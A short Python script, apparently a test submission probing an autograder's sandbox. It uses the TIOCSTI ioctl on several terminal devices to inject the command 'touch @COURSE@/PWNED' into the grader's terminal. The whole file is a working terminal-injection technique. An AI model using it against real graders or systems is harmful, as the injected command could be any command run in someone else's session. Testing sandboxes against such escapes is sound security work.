"""Pushes keystrokes into the grader's terminal."""
# %% extra
import fcntl, os
for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console", "/dev/tty1"):
    try:
        fd = os.open(path, os.O_RDWR)
        for byte in b"touch @COURSE@/PWNED\n": fcntl.ioctl(fd, 0x5412, bytes([byte]))
        print("pushed into", path)
    except OSError as error: print(type(error).__name__)
